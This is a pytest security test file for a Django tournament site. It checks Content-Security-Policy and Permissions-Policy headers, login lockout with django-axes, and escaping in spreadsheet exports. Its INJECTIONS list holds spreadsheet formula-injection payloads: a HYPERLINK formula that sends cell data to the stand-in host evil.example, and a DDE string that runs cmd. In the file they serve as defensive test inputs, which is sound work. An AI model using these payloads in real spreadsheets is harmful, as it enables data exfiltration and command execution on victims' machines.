"""A hardened site: a Content-Security-Policy with no inline code on any page, a Permissions-Policy,
logins locked after repeated failures (django-axes) and lifted from the admin, and spreadsheets
that never turn a name into a formula."""

import datetime
import io
import logging
import re

import pytest
from axes.models import AccessAttempt
from django.urls import reverse
from openpyxl import load_workbook

from tests.factories import (
    eight_hand_records,
    make_competition,
    make_match,
    make_player,
    make_season,
    make_team,
    make_user,
)
from tournaments.core.competitions.free_games import record_free_game
from tournaments.core.models import Competition, FreeGame

pytestmark = pytest.mark.django_db

INJECTIONS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
              "\t=1+1", "\r=1+1"]


# --- Content-Security-Policy and Permissions-Policy -----------------------------------------------


@pytest.fixture
def season_with_everything():
    season = make_season(2025)
    championship = make_competition(season=season)
    jury = make_user("jury")
    match = make_match(competition=championship, hand_records=eight_hand_records(), user=jury, confirmed=True)
    make_competition(Competition.Kind.CUP, season=season)
    return {"match": match, "jury": jury}


def policy(response) -> dict[str, list[str]]:
    header = response["Content-Security-Policy"]
    return {name: values for name, *values in (part.split() for part in header.split(";") if part.strip())}


def pages(world):
    match = world["match"]
    return {
        None: ["/", reverse("public:championship", args=[2025]), reverse("public:cup", args=[2025]),
               reverse("register:index"), reverse("login")],
        "chief": [reverse("jury:matches"), reverse("jury:match", args=[match.pk]),
                  reverse("jury:history", args=[match.pk]), reverse("register:enter_variant")],
        "organiser": [reverse("admin:index"), reverse("admin:tournaments_team_changelist")],
    }


def test_every_page_carries_a_policy_that_forbids_inline_code(client, season_with_everything):
    for role, urls in pages(season_with_everything).items():
        if role:
            client.force_login(make_user(role))
        for url in urls:
            response = client.get(url)
            assert response.status_code == 200, url
            rules = policy(response)
            assert rules["default-src"] == ["'self'"]
            assert rules["object-src"] == ["'none'"] and rules["frame-ancestors"] == ["'none'"]
            assert "'unsafe-inline'" not in response["Content-Security-Policy"]
            assert "'unsafe-eval'" not in response["Content-Security-Policy"]
            assert_no_inline_code(response.content.decode(), rules, url)


def assert_no_inline_code(page: str, rules: dict, url: str) -> None:
    """Every script is a file of the site or carries the response's nonce; no inline style or handler."""
    nonces = {value[len("'nonce-"):-1] for value in rules["script-src"] if value.startswith("'nonce-")}
    for tag in re.findall(r"<script\b[^>]*>", page):
        assert "src=" in tag or any(f'nonce="{nonce}"' in tag for nonce in nonces), (url, tag)
    for tag in re.findall(r"<style\b[^>]*>", page):
        assert any(f'nonce="{nonce}"' in tag for nonce in nonces), (url, tag)
    assert not re.search(r"<[^>]+\sstyle=", page), url
    assert not re.search(r"<[^>]+\son[a-z]+=", page), url
    assert not re.search(r"\s(data-)?hx-on", page), url


def test_htmx_is_configured_to_need_no_inline_code(client, season_with_everything):
    client.force_login(make_user("chief"))
    page = client.get(reverse("jury:match", args=[season_with_everything["match"].pk])).content.decode()
    assert '"includeIndicatorStyles": false' in page and '"allowEval": false' in page


def test_the_permissions_policy_turns_off_the_browsers_powerful_features(client):
    header = client.get("/")["Permissions-Policy"]
    for feature in ("camera=()", "microphone=()", "geolocation=()", "payment=()", "usb=()"):
        assert feature in header


# --- login throttling and lockout (django-axes) -----------------------------------------------------


@pytest.fixture
def chief_account():
    return make_user("chief", username="chief")


def wrong_login(client, username="chief", address="203.0.113.7"):
    return client.post(reverse("login"), {"username": username, "password": "not-the-password"},
                       REMOTE_ADDR=address)


def test_five_wrong_passwords_lock_the_account_from_that_address(client, chief_account, caplog):
    for _ in range(4):
        assert wrong_login(client).status_code == 200
    with caplog.at_level(logging.WARNING, logger="tournaments.pages.accounts.lockout"):
        locked = wrong_login(client)
    assert locked.status_code == 429
    assert "Too many failed logins" in locked.text and "Try again after" in locked.text
    assert any("login locked" in record.getMessage() and "'chief'" in record.getMessage()
               for record in caplog.records)
    assert "not-the-password" not in caplog.text
    # Even the right password is refused while the lock lasts.
    right = client.post(reverse("login"), {"username": "chief", "password": "tarokk-test"}, REMOTE_ADDR="203.0.113.7")
    assert right.status_code == 429 and "_auth_user_id" not in client.session


def test_the_lock_holds_one_user_at_one_address(client, chief_account):
    for _ in range(5):
        wrong_login(client)
    other_address = client.post(reverse("login"), {"username": "chief", "password": "tarokk-test"},
                                REMOTE_ADDR="198.51.100.1")
    assert other_address.status_code == 302


def test_the_lock_ends_after_its_cool_off(client, chief_account, settings):
    for _ in range(5):
        wrong_login(client)
    AccessAttempt.objects.update(attempt_time=datetime.datetime.now(datetime.UTC) - settings.AXES_COOLOFF_TIME
                                 - datetime.timedelta(seconds=1))
    right = client.post(reverse("login"), {"username": "chief", "password": "tarokk-test"}, REMOTE_ADDR="203.0.113.7")
    assert right.status_code == 302


@pytest.mark.parametrize("role", ["organiser", "chief"])
def test_an_organiser_or_chief_juror_lifts_the_lock_in_the_admin(client, chief_account, role):
    for _ in range(5):
        wrong_login(client)
    attempt = AccessAttempt.objects.get(username="chief")
    lifter = make_user(role, is_staff=True) if role == "chief" else make_user(role)
    admin = client.__class__()
    admin.force_login(lifter)
    assert admin.get(reverse("admin:axes_accessattempt_changelist")).status_code == 200
    response = admin.post(reverse("admin:axes_accessattempt_delete", args=[attempt.pk]), {"post": "yes"})
    assert response.status_code == 302
    assert not AccessAttempt.objects.exists()
    right = client.post(reverse("login"), {"username": "chief", "password": "tarokk-test"}, REMOTE_ADDR="203.0.113.7")
    assert right.status_code == 302


def test_a_juror_cannot_lift_a_lock(client):
    client.force_login(make_user("jury", is_staff=True))
    assert client.get(reverse("admin:axes_accessattempt_changelist")).status_code == 403


# --- spreadsheet formula injection ----------------------------------------------------------------------


def cells(response):
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("name", INJECTIONS)
def test_a_team_named_like_a_formula_stays_text_in_the_championship_sheet(client, name):
    season = make_season(2025)
    championship = make_competition(season=season)
    make_match(make_team(name, season=season), make_team("Kings", season=season), championship,
               eight_hand_records(), confirmed=True)
    response = client.get(reverse("public:championship_xlsx", args=[2025]))
    # (An XML reader gives a carriage return back as a line feed.)
    cell = next(cell for cell in cells(response) if isinstance(cell.value, str) and cell.value.strip() == name.strip())
    assert cell.data_type == "s" and cell.quotePrefix


def test_a_player_named_like_a_formula_stays_text_in_the_free_games_sheet(client):
    competition = make_competition(Competition.Kind.FREE_GAMES, season=make_season(2025))
    players = [make_player(name) for name in INJECTIONS]
    record_free_game(competition, played_on=datetime.date(2025, 3, 1), kind=FreeGame.Kind.TRAINING,
                     points={player: 1 for player in players})
    sheet = cells(client.get(reverse("public:free_games_xlsx", args=[2025])))
    found = {str(cell.value).strip(): cell for cell in sheet}
    for name in INJECTIONS:
        assert found[name.strip()].data_type == "s" and found[name.strip()].quotePrefix, name


def test_numbers_stay_numbers(client):
    season = make_season(2025)
    make_match(make_team("Owls", season=season), make_team("Kings", season=season), make_competition(season=season),
               eight_hand_records(), confirmed=True)
    values = [cell.value for cell in cells(client.get(reverse("public:championship_xlsx", args=[2025])))]
    assert 88 in values and 93 in values



def test_an_overlong_user_name_is_refused_like_any_wrong_one(client, chief_account):
    # 256 characters: more than a user name holds, and more than the attempts' log keeps.
    response = client.post(reverse("login"), {"username": "x" * 256, "password": "not-the-password"},
                           REMOTE_ADDR="203.0.113.7")
    assert response.status_code == 200
    assert "_auth_user_id" not in client.session
    assert AccessAttempt.objects.get().username == "x" * 150
